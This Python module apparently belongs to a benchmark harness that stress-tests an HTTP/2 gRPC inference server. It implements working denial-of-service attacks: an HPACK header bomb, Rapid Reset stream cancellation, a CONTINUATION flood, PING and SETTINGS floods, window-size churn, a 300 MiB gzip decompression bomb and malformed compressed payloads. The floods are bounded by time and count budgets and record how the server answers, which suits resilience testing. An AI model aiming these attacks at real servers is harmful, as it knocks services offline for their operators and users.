"""The attacks of http2_attacks.py: each sends raw HTTP/2 (http2_wire.py) until its budget runs
out and notes what the server answered. Every loop is bounded by the budget's time and a count.
"""

from __future__ import annotations

import argparse
import gzip
import struct
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import numpy as np

from benchmarks.attacks.attack_watch import Target
from benchmarks.attacks.http2_wire import (
    CANCEL,
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    SETTINGS_INITIAL_WINDOW_SIZE,
    Http2Connection,
    frame,
    grpc_message,
    request_fields,
)

BOMB_INFLATED = 300 << 20
LINGER_S = 3.0  # after a flood that did not read: how long the attacker reads what came back


@dataclass
class Budget:
    """When an attack must stop: its deadline, or the memory guard."""

    deadline: float
    memory_over: threading.Event

    def left(self) -> bool:
        return time.monotonic() < self.deadline and not self.memory_over.is_set()


class Attacker:
    """The attacker's connections, one after another, and what the server answered on each."""

    def __init__(self, target: Target) -> None:
        self.target = target
        self.connections: list[Http2Connection] = []
        self.counts: Counter[str] = Counter()  # what was sent
        self.notes: dict[str, Any] = {}
        self._lock = threading.Lock()

    def count(self, what: str, units: int) -> None:
        with self._lock:  # (attacks may send from several threads)
            self.counts[what] += units

    def connect(self) -> Http2Connection | None:
        """A new connection, once the server has acknowledged its SETTINGS (or 5 s passed)."""
        try:
            connection = Http2Connection(self.target.grpc)
        except OSError as exc:
            self.count(f"connect failed: {type(exc).__name__}", 1)
            return None
        connection.wait_for_settings_ack(5)
        with self._lock:
            self.connections.append(connection)
        return connection

    def close(self) -> None:
        for connection in self.connections:
            connection.close()

    def summary(self) -> dict[str, Any]:
        frames: Counter[str] = Counter()
        resets: Counter[str] = Counter()
        goaways: Counter[str] = Counter()
        closes: Counter[str] = Counter()
        for connection in self.connections:
            frames.update(connection.replies.frames)
            resets.update(connection.replies.resets)
            goaways.update(f"{code} {reason!r}" for code, reason in connection.replies.goaways)
            if connection.replies.closed_by_server:
                closes[connection.replies.close_reason] += 1
        return {
            "connections": len(self.connections),
            "closed_by_server": dict(closes),
            "last_closed": bool(self.connections) and self.connections[-1].replies.closed_by_server,
            "goaways": dict(goaways.most_common(5)),
            "rst_stream": dict(resets),
            "frames_received": dict(frames),
            "sent": dict(self.counts),
            "sent_mb": round(sum(c.sent_bytes for c in self.connections) / 1e6, 1),
            "send_blocked_s": round(sum(c.blocked_s for c in self.connections), 2),
            "tracked_streams": dict(Counter(a.outcome for c in self.connections for a in c.streams.values())),
            **self.notes,
        }


def repeatedly(attacker: Attacker, budget: Budget, chunk: Callable[[Http2Connection, dict[str, Any]], tuple[bytes, int]],
               limit: int, counted: str) -> None:  # fmt: skip
    """Sends what `chunk(connection, state)` makes (bytes, and how many units they hold; `state`
    is the connection's own) until the budget or `limit` units run out, on a new connection
    whenever the server closes one."""
    done = 0
    while budget.left() and done < limit:
        connection = attacker.connect()
        if connection is None:
            time.sleep(0.1)
            continue
        state: dict[str, Any] = {}
        while budget.left() and done < limit and not connection.closed:
            data, units = chunk(connection, state)
            if not connection.send(data, budget.deadline):
                break
            done += units
            attacker.count(counted, units)
        if not connection.closed:
            connection.linger(1.0)  # what the server answers once the attack stops
            return


def hpack_integer(value: int, prefix_bits: int, first: int) -> bytes:
    """An HPACK integer (RFC 7541 5.1) with `first`'s high bits set in its first byte."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = bytearray([first | limit]), value - limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name: str, value: bytes, *, indexed: bool) -> bytes:
    """A literal field with a new name: added to the dynamic table (`indexed`), or not."""
    encoded = name.encode()
    return (
        hpack_integer(0, 6 if indexed else 4, 0x40 if indexed else 0x00)
        + hpack_integer(len(encoded), 7, 0)
        + encoded
        + hpack_integer(len(value), 7, 0)
        + value
    )


def bomb_block(first: bool, size: int = 65000) -> bytes:
    """A header block for ModelInfer that names one 4 KB dynamic-table entry again and again,
    `size` bytes long; `first` adds the entry (the connection's first block)."""
    fields = b"".join(hpack_literal(n, v.encode(), indexed=False) for n, v in request_fields("ModelInfer"))
    if first:
        fields += hpack_literal("x-bomb", b"a" * 4000, indexed=True)  # 4,038 bytes of a 4,096 table
    return fields + b"\xbe" * (size - len(fields))  # index 62: the newest dynamic entry


def attack_hpack_bomb(attacker: Attacker, budget: Budget, args: argparse.Namespace) -> None:
    body = grpc_message(attacker.target.message)

    def chunk(connection: Http2Connection, state: dict[str, Any]) -> tuple[bytes, int]:
        stream = state.setdefault("next", 1)
        state["next"] = stream + 2
        block = bomb_block(first=stream == 1)
        connection.track(stream)
        pieces = [block[i : i + 16384] for i in range(0, len(block), 16384)]
        data = frame(HEADERS, END_HEADERS if len(pieces) == 1 else 0, stream, pieces[0])
        for index, piece in enumerate(pieces[1:], 2):
            data += frame(CONTINUATION, END_HEADERS if index == len(pieces) else 0, stream, piece)
        return data + frame(0, END_STREAM, stream, body), 1

    repeatedly(attacker, budget, chunk, args.max_bombs, "header blocks")


def attack_rapid_reset(attacker: Attacker, budget: Budget, args: argparse.Namespace) -> None:
    body = grpc_message(attacker.target.message)
    reset = struct.pack(">I", CANCEL)
    per_write = 64

    def chunk(connection: Http2Connection, state: dict[str, Any]) -> tuple[bytes, int]:
        blocks = []
        if not state:  # the first stream's block fills the encoder's table; the others name it
            fields = request_fields("ModelInfer")
            blocks.append(connection.headers(1, fields)[9:])
            state["block"], state["next"] = connection.headers(1, fields)[9:], 1
        blocks += [state["block"]] * (per_write - len(blocks))
        out = bytearray()
        for block in blocks:
            stream = state["next"]
            state["next"] = stream + 2
            out += frame(HEADERS, END_HEADERS, stream, block)
            out += frame(0, END_STREAM, stream, body)
            out += frame(RST_STREAM, 0, stream, reset)
        return bytes(out), per_write

    threads = [
        threading.Thread(target=repeatedly, args=(attacker, budget, chunk, args.max_streams // args.connections,
                                                  "streams reset"))
        for _ in range(args.connections)
    ]  # fmt: skip
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def attack_continuation_flood(attacker: Attacker, budget: Budget, args: argparse.Namespace) -> None:
    empty = frame(CONTINUATION, 0, 1, b"") * 1000

    def chunk(connection: Http2Connection, state: dict[str, Any]) -> tuple[bytes, int]:
        if state:
            return empty, 1000
        state["started"] = True
        block = bytes(connection.encoder.encode(request_fields("ModelInfer")))
        return frame(HEADERS, 0, 1, block[:20]) + empty, 1000  # a block that never ends

    repeatedly(attacker, budget, chunk, args.max_frames, "CONTINUATION frames")


def unread_flood(attacker: Attacker, budget: Budget, open_calls: int, batch: bytes, per_batch: int,
                 limit: int, counted: str) -> None:  # fmt: skip
    """Opens `open_calls` streaming calls, stops reading, sends `batch` (`per_batch` frames) again
    and again up to `limit` frames, then reads what comes back for a few seconds."""
    connection = attacker.connect()
    if connection is None:
        return
    opening = b"".join(
        connection.headers(1 + 2 * index, request_fields("ModelStreamInfer")) for index in range(open_calls)
    )
    if opening:
        connection.send(opening, budget.deadline)
        time.sleep(0.2)
    connection.pause_reading()
    done = 0
    while budget.left() and done < limit and not connection.closed:
        if not connection.send(batch, budget.deadline):
            break
        done += per_batch
    attacker.counts[counted] = done
    acks_before = dict(connection.replies.frames)
    connection.linger(LINGER_S)
    attacker.notes["frames_read_after_flood"] = dict(connection.replies.frames - Counter(acks_before))


def attack_ping_flood(attacker: Attacker, budget: Budget, args: argparse.Namespace) -> None:
    pings = frame(PING, 0, 0, b"attacker") * 1000
    unread_flood(attacker, budget, 1, pings, 1000, args.max_control_frames, "PING frames")


def attack_settings_flood(attacker: Attacker, budget: Budget, args: argparse.Namespace) -> None:
    settings = frame(SETTINGS, 0, 0) * 1000
    unread_flood(attacker, budget, 0, settings, 1000, args.max_control_frames, "SETTINGS frames")


def attack_settings_window(attacker: Attacker, budget: Budget, args: argparse.Namespace) -> None:
    changes = b"".join(
        frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, size))
        for size in (65535, 65536)
    )
    unread_flood(attacker, budget, args.open_calls, changes * 500, 1000, args.window_changes,
                 "INITIAL_WINDOW_SIZE changes")  # fmt: skip


def gzip_bomb() -> bytes:
    """300 MiB of zeros, gzip-compressed (about 306 KB), made in 1 MiB pieces."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    return b"".join(compressor.compress(zeros) for _ in range(BOMB_INFLATED >> 20)) + compressor.flush()


def compressed_call(
    connection: Http2Connection, stream: int, payload: bytes, encoding: str, deadline: float
) -> str:
    """One ModelInfer call whose message is `payload` compressed as `encoding`; its grpc-status
    and grpc-message (or what ended it instead)."""
    connection.track(stream)
    fields = request_fields("ModelInfer", ("grpc-encoding", encoding))
    if not connection.send(connection.headers(stream, fields), deadline):
        return "not sent"
    if not connection.send_data(stream, grpc_message(payload, compressed=True), deadline):
        return "not sent"
    return connection.wait_for(stream, deadline).outcome


def calls(attacker: Attacker, budget: Budget, variants: list[tuple[str, bytes, str]], limit: int) -> None:
    """Each variant (name, payload, encoding) called in turn, one at a time, until the budget or
    `limit` calls run out; counts each answer and times the calls."""
    outcomes: dict[str, Counter[str]] = {name: Counter() for name, _, _ in variants}
    seconds: list[float] = []
    done = 0
    connection: Http2Connection | None = None
    stream = 1
    while budget.left() and done < limit:
        if connection is None or connection.closed:
            connection, stream = attacker.connect(), 1
            if connection is None:
                time.sleep(0.1)
                continue
        name, payload, encoding = variants[done % len(variants)]
        started = time.monotonic()
        outcome = compressed_call(connection, stream, payload, encoding, min(budget.deadline, started + 30))
        seconds.append(time.monotonic() - started)
        outcomes[name][outcome] += 1
        stream += 2
        done += 1
    attacker.counts["calls"] = done
    attacker.notes["answers"] = {name: dict(counter) for name, counter in outcomes.items()}
    if seconds:
        attacker.notes["call_seconds_median_max"] = [
            round(float(np.median(seconds)), 3),
            round(max(seconds), 3),
        ]


def attack_gzip_bomb(attacker: Attacker, budget: Budget, args: argparse.Namespace) -> None:
    bomb = gzip_bomb()
    attacker.notes["bomb_kb"] = round(len(bomb) / 1000)
    calls(attacker, budget, [("gzip bomb", bomb, "gzip")], args.max_calls)


def attack_bad_gzip(attacker: Attacker, budget: Budget, args: argparse.Namespace) -> None:
    body = attacker.target.message
    packed, deflated = gzip.compress(body), zlib.compress(body)
    variants = [
        ("valid gzip", packed, "gzip"),
        ("valid deflate", deflated, "deflate"),
        ("gzip without CRC trailer", packed[:-8], "gzip"),
        ("gzip + trailing garbage", packed + b"garbage!", "gzip"),
        ("deflate without Adler-32", deflated[:-4], "deflate"),
    ]
    calls(attacker, budget, variants, args.max_calls)


def no_attack(attacker: Attacker, budget: Budget, args: argparse.Namespace) -> None:
    while budget.left():
        time.sleep(0.05)


def cpu_control(attacker: Attacker, budget: Budget, args: argparse.Namespace) -> None:
    """No attack, but the attacker's core kept busy: what the other client loses to the CPU
    that an attacker on the same machine takes, whatever it sends."""
    spins = 0
    while budget.left():
        for _ in range(10_000):
            spins += 1


Attack = Callable[[Attacker, Budget, argparse.Namespace], None]
CONTROLS: dict[str, Attack] = {"baseline": no_attack, "cpu-control": cpu_control}
ATTACKS: dict[str, Attack] = {
    "hpack-bomb": attack_hpack_bomb,
    "rapid-reset": attack_rapid_reset,
    "continuation-flood": attack_continuation_flood,
    "ping-flood": attack_ping_flood,
    "settings-flood": attack_settings_flood,
    "settings-window": attack_settings_window,
    "gzip-bomb": attack_gzip_bomb,
    "bad-gzip": attack_bad_gzip,
}
